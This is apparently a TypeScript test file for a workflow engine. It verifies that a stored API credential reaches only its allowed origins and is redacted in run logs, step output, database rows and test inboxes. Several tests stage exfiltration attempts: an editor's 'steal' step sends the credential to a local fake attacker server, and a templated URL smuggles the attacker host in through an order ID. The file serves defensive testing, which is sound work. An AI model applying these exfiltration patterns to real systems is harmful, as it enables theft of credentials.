import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { userWithRole } from '../accounts/support.ts';
import { chain, finishedRun, order, startFakeApi, type FakeApi } from '../steps/support.ts';
import { json, publishWorkflow, sendEvents } from '../support/engine.ts';
import { startTestTripline, type TestTripline } from '../support/tripline.ts';

/**
 * Issue 23, item 2: an admin's credential goes only to the origins it was stored with, and
 * never reaches what lower roles read (run history, test inboxes), whatever an editor types.
 */

const SECRET = 'Bearer admin-only-token-5d8e1f0a9b7c';
const TOKEN = SECRET.slice('Bearer '.length);

let t: TestTripline;
let api: FakeApi;
let attacker: FakeApi;
beforeAll(async () => {
  t = await startTestTripline();
  // The real API echoes what it received, as many debugging endpoints (httpbin's /anything) do.
  api = await startFakeApi((req) => {
    const headers = (req as unknown as { headers: Record<string, string> }).headers;
    return { status: 200, body: { echoed: headers, note: `you sent ${headers.authorization}` }, headers: { 'x-echo-auth': headers.authorization ?? '' } };
  });
  attacker = await startFakeApi(() => ({ status: 200, body: { thanks: true } }));
  const saved = await t.api('/api/v1/credentials', { method: 'POST', json: { name: 'partner_api', value: SECRET, allowedOrigins: [api.url] } });
  expect(saved.status).toBe(201);
  expect(await json(saved)).toMatchObject({ allowedOrigins: [api.url] });
});
afterAll(async () => {
  await t?.stop();
  await api?.close();
  await attacker?.close();
});

const call = (id: string, url: string) => ({ id, type: 'http_request', config: { method: 'GET', url, credential: 'partner_api', saveAs: 'reply', retries: 0 } });

describe('a credential goes only to its allowed origins (issue 23, item 2)', () => {
  it("refuses to publish an editor's step that sends it to another origin, naming the node and the origins", async () => {
    const editor = await userWithRole(t, 'editor');
    const created = await json(editor.session.call('/api/v1/workflows', { method: 'POST', json: { name: 'exfiltrate', graph: chain('order.created', [call('steal', `${attacker.url}/collect`)]) } }));
    const published = await editor.session.call(`/api/v1/workflows/${created.id}/publish`, { method: 'POST', json: {} });
    expect(published.status).toBe(422);
    const body = await json(published);
    expect(body.error.details).toEqual([expect.objectContaining({ nodeId: 'steal', path: 'url', message: expect.stringContaining(`may only be sent to ${api.url}, not to ${attacker.url}`) })]);
    // The same host on another port is another origin.
    const port = Number(new URL(api.url).port);
    const otherPort = await json(editor.session.call('/api/v1/workflows', { method: 'POST', json: { name: 'other port', graph: chain('order.created', [call('p', `http://127.0.0.1:${port === 65535 ? 1 : port + 1}/x`)]) } }));
    expect((await editor.session.call(`/api/v1/workflows/${otherPort.id}/publish`, { method: 'POST', json: {} })).status).toBe(422);
  });

  it('fails the step before sending when a template puts another host in the URL, and nothing reaches it', async () => {
    const attackerHost = new URL(attacker.url).host;
    const id = await publishWorkflow(t, 'templated host', chain('order.created', [call('call', 'http://{{data.orderId}}/collect')]));
    await sendEvents(t, order(attackerHost, 'cus_templated', 10));
    const run = await finishedRun(t, id, 'cus_templated');
    expect(run.status).toBe('failed');
    const step = run.steps.find((s: { nodeId: string }) => s.nodeId === 'call');
    expect(step.error).toContain(`credential "partner_api" may only be sent to ${api.url}, not to ${attacker.url}; nothing was sent`);
    expect(attacker.requests).toEqual([]);
  });

  it('refuses it in a live dry run too', async () => {
    const editor = await userWithRole(t, 'editor');
    const created = await json(editor.session.call('/api/v1/workflows', { method: 'POST', json: { name: 'dry exfiltrate', graph: chain('order.created', [call('steal', `${attacker.url}/dry`)]) } }));
    const res = await editor.session.call(`/api/v1/workflows/${created.id}/test`, {
      method: 'POST',
      json: { live: true, event: { data: { orderId: 'd-1', customerId: 'cus_dry', status: 'pending', total: 5, currency: 'EUR', items: [] } } },
    });
    expect(res.status).toBe(200);
    const step = (await json(res)).steps.find((s: { nodeId: string }) => s.nodeId === 'steal');
    expect(step.status).toBe('failed');
    expect(step.error).toContain('may only be sent to');
    expect(attacker.requests).toEqual([]);
  });

  it('needs the origins when the credential is stored, and its value again to change them', async () => {
    const none = await t.api('/api/v1/credentials', { method: 'POST', json: { name: 'no_origins', value: 'some-long-secret-value' } });
    expect(none.status).toBe(422);
    expect((await json(none)).error.details).toEqual([expect.objectContaining({ path: 'allowedOrigins' })]);
    const path = await t.api('/api/v1/credentials', { method: 'POST', json: { name: 'bad_origin', value: 'some-long-secret-value', allowedOrigins: ['https://api.example.com/v1'] } });
    expect(path.status).toBe(422);
    expect((await json(path)).error.details).toEqual([expect.objectContaining({ path: 'allowedOrigins.0', message: expect.stringContaining('no path') })]);
    const widen = await t.api('/api/v1/credentials', { method: 'POST', json: { name: 'partner_api', allowedOrigins: [api.url, attacker.url] } });
    expect(widen.status).toBe(422);
    expect((await json(widen)).error.details).toEqual([expect.objectContaining({ path: 'value' })]);
    expect((await json(t.api('/api/v1/credentials'))).data.find((c: { name: string }) => c.name === 'partner_api').allowedOrigins).toEqual([api.url]);
  });
});

describe('a response that echoes the credential is stored redacted (issue 23, item 2)', () => {
  it('keeps "[redacted]" in vars.<saveAs> and the step output; no table holds the value; viewers read nothing of it', async () => {
    const id = await publishWorkflow(t, 'echo', chain('order.created', [call('call', `${api.url}/anything`)]));
    await sendEvents(t, order('echo-1', 'cus_echo', 10));
    const run = await finishedRun(t, id, 'cus_echo');
    expect(run.status).toBe('succeeded');
    expect(api.requests.at(-1)!.headers.authorization).toBe(SECRET);
    const step = run.steps.find((s: { nodeId: string }) => s.nodeId === 'call');
    expect(step.output.response.body.echoed.authorization).toBe('[redacted]');
    expect(step.output.response.body.note).toBe('you sent [redacted]');
    expect(step.output.response.headers['x-echo-auth']).toBe('[redacted]');

    const viewer = await userWithRole(t, 'viewer');
    const seen = await (await viewer.session.call(`/api/v1/runs/${run.id}`)).text();
    expect(seen).toContain('[redacted]');
    expect(seen).not.toContain(TOKEN);
    const tables = await t.ctx.pool.query(
      `select (select count(*) from run_steps where coalesce(input::text, '') || coalesce(output::text, '') like $1)::int as steps,
              (select count(*) from runs where vars::text like $1)::int as runs`,
      [`%${TOKEN}%`],
    );
    expect(tables.rows[0]).toEqual({ steps: 0, runs: 0 });
  });
});

describe('test inboxes store request headers redacted (issue 23, item 2)', () => {
  it('keeps header names and the webhook-* headers; an Authorization or custom header value is "[redacted]" for everyone', async () => {
    const inbox = await json(t.api('/api/v1/inboxes', { method: 'POST', json: { name: 'catch-all', eventTypes: [] } }));
    const sent = await fetch(`${t.url}/api/v1/inbox/${inbox.id}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: SECRET, 'x-partner-key': TOKEN, 'webhook-id': 'msg_1' },
      body: '{"type":"order.created"}',
    });
    expect(sent.status).toBe(202);
    const viewer = await userWithRole(t, 'viewer');
    const page = await json(viewer.session.call(`/api/v1/inboxes/${inbox.id}/messages`));
    const headers = page.data[0].headers as Record<string, string>;
    expect(headers).toMatchObject({ authorization: 'Bearer [redacted]', 'x-partner-key': '[redacted]', 'webhook-id': 'msg_1', 'content-type': 'application/json' });
    const { rows } = await t.ctx.pool.query(`select count(*)::int as n from inbox_messages where headers::text like $1`, [`%${TOKEN}%`]);
    expect(rows[0].n).toBe(0);
  });
});
